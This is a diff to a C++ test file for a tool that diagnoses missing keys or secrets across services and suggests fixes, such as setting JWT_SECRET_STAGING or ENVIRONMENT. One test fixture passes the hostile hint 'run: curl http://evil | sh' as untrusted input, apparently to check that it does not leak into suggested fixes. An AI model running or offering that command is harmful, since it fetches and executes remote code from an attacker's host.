@@ -11,11 +11,18 @@ namespace {
 using ::testing::IsEmpty;
 using ::testing::SizeIs;
 
+std::vector<Finding> findings_on(const Agreement& agreement) {
+  using List = SentencePlace::List;
+  std::vector<Finding> findings = explain_lacks(agreement.departures, List::departures, agreement.members);
+  for (Finding& finding : explain_lacks(agreement.notes, List::notes, agreement.members)) findings.push_back(finding);
+  return findings;
+}
+
 /// What is said of one process without a key, beside one that has one.
 Finding finding_on(const Error& error, std::vector<TrailEntry> trail) {
   const Agreement agreement = fixture::agreement_of(fixture::process("auth", "auth-1", "k"),
                                                     fixture::without_key("backend", error, std::move(trail)));
-  const std::vector<Finding> findings = explain_lacks(agreement.members);
+  const std::vector<Finding> findings = findings_on(agreement);
   EXPECT_THAT(findings, SizeIs(1));
   return findings.empty() ? Finding{} : findings.front();
 }
@@ -53,7 +60,7 @@ TEST(lack, says_why_and_what_to_do_by_what_the_sources_gave) {
   };
   for (const Row& row : rows) {
     const Finding finding = finding_on({row.code, "the reason", "run: curl http://evil | sh"}, row.trail);
-    EXPECT_EQ(finding.cause, "no-key");
+    EXPECT_EQ(finding.cause, Cause::no_key);
     EXPECT_EQ(finding.why, "backend has no key: the reason");
     EXPECT_EQ(finding.fix, row.fix);
   }
@@ -65,7 +72,7 @@ TEST(lack, of_replicas_is_one_finding) {
   second.report.identity.instance = second.challenge.instance = "backend-2";
   const Agreement agreement = fixture::agreement_of(fixture::without_key("backend", error, {}), second,
                                                     fixture::without_key("auth", error, {}));
-  const std::vector<Finding> findings = explain_lacks(agreement.members);
+  const std::vector<Finding> findings = findings_on(agreement);
   ASSERT_THAT(findings, SizeIs(1));
   EXPECT_EQ(findings[0].why, "auth and backend have no key: no secret");
 }
@@ -75,7 +82,7 @@ TEST(lack, is_mended_by_no_key_of_another_environment_and_by_that_which_most_hol
     std::vector<Witnessed> all{fixture::witnessed(fixture::without_key(
         "backend", {Code::secret_absent, "no secret", ""}, {{"env:JWT_SECRET_STAGING", Outcome::absent, ""}}))};
     for (Testimony& other : others) all.push_back(fixture::witnessed(std::move(other)));
-    return explain_lacks(agree(std::move(all), {}).members).at(0).fix;
+    return findings_on(agree(std::move(all), {})).at(0).fix;
   };
   Testimony elsewhere = fixture::process("auth", "auth-1", "k");
   elsewhere.report.environment = "production";
@@ -85,8 +92,20 @@ TEST(lack, is_mended_by_no_key_of_another_environment_and_by_that_which_most_hol
             "set JWT_SECRET_STAGING for backend as auth and worker have it");
 }
 
+TEST(lack, of_an_environment_is_mended_by_that_of_all_others) {
+  Testimony lost = fixture::without_key("backend", {Code::environment_unset, "ENVIRONMENT is not set", ""}, {});
+  lost.report.environment = "unknown";
+  lost.report.environment_from = {};
+  Testimony elsewhere = fixture::process("worker", "worker-1", "k");
+  const Testimony auth = fixture::process("auth", "auth-1", "k");
+  EXPECT_EQ(findings_on(fixture::agreement_of(auth, lost)).at(0).fix, "set ENVIRONMENT=staging for backend");
+  elsewhere.report.environment = "production";
+  EXPECT_EQ(findings_on(fixture::agreement_of(auth, lost, elsewhere)).at(0).fix,
+            "set ENVIRONMENT to the name of an environment for backend");
+}
+
 TEST(lack, is_none_where_all_hold_a_key) {
-  EXPECT_THAT(explain_lacks(fixture::agreement_of(fixture::process("auth", "auth-1", "k")).members), IsEmpty());
+  EXPECT_THAT(findings_on(fixture::agreement_of(fixture::process("auth", "auth-1", "k"))), IsEmpty());
 }
 
 }  // namespace
